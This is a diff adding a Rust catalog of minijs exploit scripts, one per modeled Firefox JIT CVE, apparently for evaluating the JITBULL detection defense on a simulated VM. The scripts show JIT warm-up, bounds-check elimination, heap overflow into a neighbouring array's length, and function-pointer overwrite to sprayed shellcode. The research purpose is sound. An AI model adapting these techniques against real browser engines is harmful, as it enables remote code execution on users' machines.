@@ -1,0 +1,351 @@
+//! The demonstrator-code catalog: one complete, working minijs exploit per
+//! modeled CVE.
+//!
+//! Layout conventions the exploits rely on (see `jitbull_vm::heap`):
+//! consecutively allocated arrays are adjacent; an array with capacity `c`
+//! occupies `c + 2` cells (`length`, `capacity`, elements), so element
+//! `c` of one array lands on the next array's length header. The sprayed
+//! shellcode marker is `3735928559` (`0xDEADBEEF`,
+//! [`jitbull_vm::runtime::SHELLCODE_MARKER`]).
+
+use jitbull_jit::CveId;
+
+/// How the public PoC manifests when it succeeds.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ExploitKind {
+    /// The runtime crashes on a wild memory access.
+    Crash,
+    /// Control flow reaches attacker-sprayed shellcode.
+    Shellcode,
+}
+
+/// A vulnerability demonstrator code.
+#[derive(Debug, Clone)]
+pub struct Vdc {
+    /// The vulnerability it exploits.
+    pub cve: CveId,
+    /// Short label (distinguishes variants and alternate implementations).
+    pub name: String,
+    /// Complete minijs source.
+    pub source: String,
+    /// Expected outcome on a vulnerable, unprotected engine.
+    pub expected: ExploitKind,
+    /// The functions that must be JIT-compiled for the exploit to work
+    /// (their DNA is what gets installed into JITBULL's database).
+    pub trigger_functions: Vec<String>,
+}
+
+/// Iterations used to push trigger functions past the optimizing-JIT
+/// threshold (default 1500).
+pub const WARMUP: u32 = 1600;
+
+/// Returns the primary demonstrator code for a CVE.
+pub fn vdc(cve: CveId) -> Vdc {
+    match cve {
+        CveId::Cve2019_9791 => Vdc {
+            cve,
+            name: "cve-2019-9791-poc".into(),
+            expected: ExploitKind::Crash,
+            trigger_functions: vec!["confuse".into()],
+            source: format!(
+                r#"
+// CVE-2019-9791: type-inference confusion on a phi that can carry a raw
+// number. After warm-up, the buggy TypeSpecialization drops the
+// unbox:array guard; passing the number dereferences it as a pointer.
+function confuse(flip, victim, slot) {{
+  // Setup work as in the public PoC: derive a probe value (generic
+  // loop/branch shapes shared with everyday code, but no element access
+  // that would shadow the poisoned one below).
+  var probe = 0;
+  for (var k = 0; k < 4; k++) {{ probe = (probe + slot + k) & 255; }}
+  var base;
+  if (flip) {{ base = victim; }} else {{ base = 427008; }}
+  return base[slot] + probe - probe;
+}}
+var target = new Array(8);
+for (var w = 0; w < {WARMUP}; w++) {{ confuse(true, target, w & 7); }}
+// Mis-compiled: the fake pointer is dereferenced -> wild read -> crash.
+confuse(false, target, 0);
+print("survived");
+"#
+            ),
+        },
+        CveId::Cve2019_9810 => Vdc {
+            cve,
+            name: "cve-2019-9810-poc".into(),
+            expected: ExploitKind::Crash,
+            trigger_functions: vec!["masked_write".into()],
+            source: format!(
+                r#"
+// CVE-2019-9810: same alias-analysis flaw as 17026, surfacing on masked
+// indexes. GVN removes the bounds check for `i & 1023` once the function
+// also resizes the array; a large masked index then writes far outside
+// the allocation.
+function masked_write(buf, i, v) {{
+  // Key-mixing preamble, as in the public PoC.
+  var acc = 0;
+  for (var k = 0; k < 4; k++) {{ acc = (acc + buf[k & 7] + v) & 255; }}
+  buf.length = 16;
+  buf[i & 1023] = v;
+  return acc;
+}}
+var buf = new Array(16);
+for (var w = 0; w < {WARMUP}; w++) {{ masked_write(buf, 3, w); }}
+// Mis-compiled: raw write ~900 cells past a 16-cell array -> wild write.
+masked_write(buf, 900, 7);
+print("survived");
+"#
+            ),
+        },
+        CveId::Cve2019_11707 => Vdc {
+            cve,
+            name: "cve-2019-11707-poc".into(),
+            expected: ExploitKind::Shellcode,
+            trigger_functions: vec!["pop_smash".into()],
+            source: format!(
+                r#"
+// CVE-2019-11707: Array.prototype.pop mis-modeling. Checks on the popped
+// array are considered redundant; an out-of-bounds write then corrupts
+// the adjacent array's length header, yielding an arbitrary write that
+// redirects a function-table entry to sprayed shellcode.
+function pop_smash(arr, idx, v) {{
+  // Scan the array first (the PoC walks it to groom the heap).
+  var sum = 0;
+  for (var k = 0; k < 3; k++) {{
+    if (arr.length > k) {{ sum = sum + arr[k] - arr[k]; }}
+  }}
+  arr.pop();
+  arr.length = 16;
+  arr[idx] = v;
+  return sum;
+}}
+function innocent() {{ return 1; }}
+var first = new Array(16);
+var second = new Array(16);
+var table = [innocent];
+for (var w = 0; w < {WARMUP}; w++) {{ pop_smash(first, 2, w); }}
+// first[16] overlaps second's length header (cap 16 -> 18 cells).
+pop_smash(first, 16, 1000000);
+// second now reaches far past its storage: overwrite table[0]
+// (second element 18 == table element 0 cell).
+second[18] = 3735928559;
+table[0]();
+print("done");
+"#
+            ),
+        },
+        CveId::Cve2019_17026 => Vdc {
+            cve,
+            name: "cve-2019-17026-poc".into(),
+            expected: ExploitKind::Shellcode,
+            trigger_functions: vec!["shrink_smash".into()],
+            source: format!(
+                r#"
+// CVE-2019-17026 (the paper's running example): shrinking arr.length
+// makes GVN's broken dependency analysis treat the bounds check as
+// redundant. The unchecked write overflows into the neighbouring
+// array's length header; the corrupted neighbour provides the arbitrary
+// read/write primitive that redirects a JIT function pointer to sprayed
+// shellcode.
+function shrink_smash(arr, idx, v) {{
+  arr.length = 8;
+  arr[idx] = v;
+  return arr[0];
+}}
+function callee() {{ return 7; }}
+var prey = new Array(8);
+var neighbour = new Array(8);
+var fntable = [callee];
+for (var w = 0; w < {WARMUP}; w++) {{ shrink_smash(prey, 1, w); }}
+// prey[8] is one cell past its 8-element storage: neighbour's length.
+shrink_smash(prey, 8, 1000000);
+// neighbour element 10 is fntable element 0 (10-cell arrays).
+neighbour[10] = 3735928559;
+fntable[0]();
+print("done");
+"#
+            ),
+        },
+        CveId::Cve2019_9792 => Vdc {
+            cve,
+            name: "cve-2019-9792-poc".into(),
+            expected: ExploitKind::Crash,
+            trigger_functions: vec!["loop_smash".into()],
+            source: format!(
+                r#"
+// CVE-2019-9792: LICM hoists the loop's bounds check past a call that
+// can resize the array, effectively removing it from the loop body.
+function probe(buf) {{ return buf.length; }}
+function loop_smash(buf, n, v) {{
+  for (var i = 0; i < n; i++) {{
+    probe(buf);
+    buf[i] = v;
+  }}
+  return 0;
+}}
+var store = new Array(8);
+for (var w = 0; w < {WARMUP}; w++) {{ loop_smash(store, 4, w); }}
+// Mis-compiled: every write is raw; i marches straight off the heap.
+loop_smash(store, 5000, 2);
+print("survived");
+"#
+            ),
+        },
+        CveId::Cve2019_9795 => Vdc {
+            cve,
+            name: "cve-2019-9795-poc".into(),
+            expected: ExploitKind::Crash,
+            trigger_functions: vec!["induction_read".into()],
+            source: format!(
+                r#"
+// CVE-2019-9795: with a push() in the function, range analysis assumes
+// the array only grows and drops checks on induction-variable indexes.
+function induction_read(buf, n, v) {{
+  var acc = 0;
+  for (var i = 0; i < n; i++) {{
+    acc = acc + buf[i];
+  }}
+  buf.push(v);
+  return acc;
+}}
+var data = new Array(8);
+for (var w = 0; w < {WARMUP}; w++) {{ induction_read(data, 4, w); }}
+// Mis-compiled: reads run raw until they fall off the heap.
+induction_read(data, 1000000, 1);
+print("survived");
+"#
+            ),
+        },
+        CveId::Cve2019_9813 => Vdc {
+            cve,
+            name: "cve-2019-9813-poc".into(),
+            expected: ExploitKind::Crash,
+            trigger_functions: vec!["twin_read".into()],
+            source: format!(
+                r#"
+// CVE-2019-9813: the redundancy merge forgets dominance — the check in
+// the else-branch is removed because the then-branch also checks the
+// same array, although neither branch dominates the other.
+function twin_read(buf, i, j, flip) {{
+  var out = 0;
+  if (flip) {{ out = buf[i]; }} else {{ buf[j] = out; out = j; }}
+  return out;
+}}
+var cells = new Array(16);
+for (var w = 0; w < {WARMUP}; w++) {{ twin_read(cells, w & 7, (w + 1) & 7, w & 1); }}
+// Mis-compiled: the else-path write is raw -> wild write far off the heap.
+twin_read(cells, 0, 1000000, false);
+print("survived");
+"#
+            ),
+        },
+        CveId::Cve2020_26952 => Vdc {
+            cve,
+            name: "cve-2020-26952-poc".into(),
+            expected: ExploitKind::Crash,
+            trigger_functions: vec!["offset_read".into()],
+            source: format!(
+                r#"
+// CVE-2020-26952: linear-arithmetic folding claims `i + 8` is covered by
+// the check it folded away.
+function offset_read(buf, i) {{
+  return buf[i + 8];
+}}
+var plane = new Array(32);
+for (var w = 0; w < {WARMUP}; w++) {{ offset_read(plane, w & 15); }}
+// Mis-compiled: raw read at i + 8 with a huge i -> wild read.
+offset_read(plane, 1000000);
+print("survived");
+"#
+            ),
+        },
+    }
+}
+
+/// The independently written second implementation of CVE-2019-17026
+/// (modeling the paper's two public PoCs by different developers: the
+/// `lsw29475` and `maxpl0it` repositories). Uses different sizes, helper
+/// structure, and locates the function pointer by scanning instead of by
+/// a precomputed offset.
+pub fn alternate_implementation(cve: CveId) -> Option<Vdc> {
+    if cve != CveId::Cve2019_17026 {
+        return None;
+    }
+    Some(Vdc {
+        cve,
+        name: "cve-2019-17026-impl2".into(),
+        expected: ExploitKind::Shellcode,
+        trigger_functions: vec!["resize_and_poke".into()],
+        source: format!(
+            r#"
+// CVE-2019-17026 — second, independently structured implementation.
+function resize_and_poke(victim, where, what) {{
+  victim.length = 12;
+  victim[where] = what;
+  return victim.length;
+}}
+function say() {{ return 42; }}
+var one = new Array(12);
+var two = new Array(12);
+var jumptable = [say];
+var k = 0;
+while (k < {WARMUP}) {{
+  resize_and_poke(one, 2, k);
+  k = k + 1;
+}}
+// Overflow `one` into `two`'s length header (cap 12 -> 14 cells).
+resize_and_poke(one, 12, 262144);
+// Hunt for the function pointer through the corrupted neighbour instead
+// of hardcoding the offset.
+var spot = 0 - 1;
+for (var j = 0; j < 15; j++) {{
+  if (typeof two[j] == "function") {{ spot = j; }}
+}}
+two[spot] = 3735928559;
+jumptable[0]();
+print("done");
+"#
+        ),
+    })
+}
+
+/// All eight primary demonstrator codes, security-evaluation set first.
+pub fn all_vdcs() -> Vec<Vdc> {
+    CveId::all().into_iter().map(vdc).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use jitbull_frontend::parse_program;
+
+    #[test]
+    fn every_vdc_parses() {
+        for v in all_vdcs() {
+            let p = parse_program(&v.source)
+                .unwrap_or_else(|e| panic!("{} failed to parse: {e}", v.name));
+            for f in &v.trigger_functions {
+                assert!(p.function(f).is_some(), "{}: trigger `{f}` missing", v.name);
+            }
+        }
+        let alt = alternate_implementation(CveId::Cve2019_17026).unwrap();
+        parse_program(&alt.source).unwrap();
+    }
+
+    #[test]
+    fn security_set_expectations_match_paper() {
+        // §VI-B: "Out of these 4 vulnerabilities, 2 lead to a crash (the
+        // first two in our list), and the last two result in the
+        // execution of a payload."
+        assert_eq!(vdc(CveId::Cve2019_9791).expected, ExploitKind::Crash);
+        assert_eq!(vdc(CveId::Cve2019_9810).expected, ExploitKind::Crash);
+        assert_eq!(vdc(CveId::Cve2019_11707).expected, ExploitKind::Shellcode);
+        assert_eq!(vdc(CveId::Cve2019_17026).expected, ExploitKind::Shellcode);
+    }
+
+    #[test]
+    fn alternate_implementation_only_for_17026() {
+        assert!(alternate_implementation(CveId::Cve2019_17026).is_some());
+        assert!(alternate_implementation(CveId::Cve2019_9810).is_none());
+    }
+}
